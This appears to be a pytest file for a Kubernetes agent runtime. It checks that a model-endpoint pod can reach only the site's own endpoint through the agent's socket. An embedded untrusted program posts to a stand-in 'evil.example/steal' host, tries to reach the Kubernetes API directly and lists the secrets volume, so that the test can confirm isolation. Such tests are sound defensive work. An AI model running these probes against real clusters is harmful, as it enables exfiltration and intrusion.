"""A model behind an endpoint, as a pod: it asks through the agent's socket, and reaches nothing by itself."""

import asyncio
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import pytest

from agents.home import SiteSettings, create_home, write_private
from agents.runtimes.kubernetes.manifest import Around, step_job
from agents.runtimes.kubernetes.template import load_template
from agents.runtimes.protocol import CubeBundle, StepRequest
from agents.site import Site
from agents.steps import StepOutputs, run_step
from api.schemas.border import Isolation
from cubes.contract import TaskName, load_contract, parse_contract
from tests.agents.runtimes.kubernetes.places import LIMITS, Place, settings_for
from tests.agents.runtimes.kubernetes.test_site import ISOLATED

CUBE: Final = Path(__file__).parents[4] / "cubes" / "api_model"
PACK: Final = "sha256:" + "1" * 64
TRIES: Final = """
import http.client, json, os, socket
class Asks(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/mlcommons/volumes/endpoint/socket")
asks = Asks("evil.example")
asks.request("POST", "http://evil.example/steal", b"{}", {"Host": "evil.example"})
answer = asks.getresponse().read().decode()
def reached(host, port):
    try:
        socket.create_connection((host, int(port)), timeout=3).close()
    except OSError:
        return False
    return True
found = {
    "answer": answer,
    "endpoint": reached("ENDPOINT", NUMBER),
    "api": reached(os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"]),
    "secrets": sorted(os.listdir("/mlcommons/volumes")),
}
open("/mlcommons/volumes/predictions/x", "w").write(json.dumps(found))
"""


@pytest.fixture
def asked() -> Iterator[tuple[str, list[str]]]:
    """An endpoint on this host, and the paths that it was asked for."""
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            paths.append(self.path)
            self.rfile.read(int(self.headers["Content-Length"]))
            body = b'{"prediction": 0.75}'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name of the base class
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        serving = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        serving.start()
        yield f"http://127.0.0.1:{server.server_address[1]}/v1/model", paths
        server.shutdown()
        serving.join()


def _ask(place: Place, url: str, program: str) -> tuple[Site, StepOutputs]:
    settings = {
        "site": "north",
        "registry_url": "http://127.0.0.1:9",
        "endpoints": {"model": {"url": url, "cubes": [PACK], "secret": "model.key"}},
        **place.site_settings(),
    }
    folder = place.home / "endpoint"
    site = Site(create_home(folder, SiteSettings.model_validate(settings), "assay_1_secret").path)
    write_private(site.home.path / "secrets" / "model.key", "a-key\n")
    site.home.probe_file.write_text(ISOLATED.model_dump_json())
    for name, text in {"cube/infer.py": program, "data/case": "seen", "parameters": "scheme: json\n"}.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)
    contract = parse_contract((CUBE / "container_config.yaml").read_text().replace("cpu: 1", "cpu: 0.2"))
    cube = CubeBundle(contract, PACK, folder / "cube", parameters_file=folder / "parameters")
    return site, asyncio.run(run_step(site, cube, TaskName.INFER, {"data_path": folder / "data"}, "api model"))


@pytest.mark.kubernetes
def test_one_host_is_asked_through_the_agent_and_nothing_else_is_reached(
    place: Place, asked: tuple[str, list[str]]
) -> None:
    url, paths = asked
    port = url.split(":")[2].split("/")[0]
    site, outputs = _ask(place, url, TRIES.replace("ENDPOINT", "10.243.0.1").replace("NUMBER", port))
    found: dict[str, Any] = json.loads((outputs.volumes["output_path"] / "x").read_text())
    assert json.loads(found["answer"]) == {"prediction": 0.75}
    assert paths == ["/v1/model"], "whatever path and host the step names, the site's own is asked"
    assert (found["endpoint"], found["api"]) == (False, False)
    assert found["secrets"] == ["data", "endpoint", "parameters.yaml", "predictions"]
    assert outputs.probe.only_host == f"127.0.0.1:{port}", "the result says whom its model could ask"
    assert outputs.probe.isolation == Isolation.ISOLATED
    outputs.discard()
    site.close()


class TestNode:
    """A socket ends at its node: such a step runs beside its agent. It needs no GPU, only somebody to ask."""

    @pytest.fixture
    def request_in(self, tmp_path: Path) -> StepRequest:
        for name in ("data", "output", "endpoint"):
            (tmp_path / name).mkdir()
        (tmp_path / "parameters").touch()
        return StepRequest(
            key="step-1",
            cube=CubeBundle(load_contract(CUBE), PACK, tmp_path),
            task=TaskName.INFER,
            volumes={
                "data_path": tmp_path / "data",
                "parameters_file": tmp_path / "parameters",
                "endpoint": tmp_path / "endpoint",
                "output_path": tmp_path / "output",
            },
            log=tmp_path / "log",
            limits=LIMITS,
        )

    @pytest.mark.parametrize("node", ["node-7", None])
    def test_it_runs_where_the_agent_does(self, tmp_path: Path, request_in: StepRequest, node: str | None) -> None:
        settings = settings_for(tmp_path, several_nodes=True, node_selector={"nvidia.com/gpu.present": "true"})
        job = step_job(load_template(None), request_in, settings, Around("north", 1000, 1000, node=node))
        pod = job["spec"]["template"]["spec"]
        assert ("nodeSelector" in pod) == (node is None)
        if node is None:
            assert "affinity" not in pod
        else:
            (term,) = pod["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"][
                "nodeSelectorTerms"
            ]
            assert term["matchFields"] == [{"key": "metadata.name", "operator": "In", "values": ["node-7"]}]
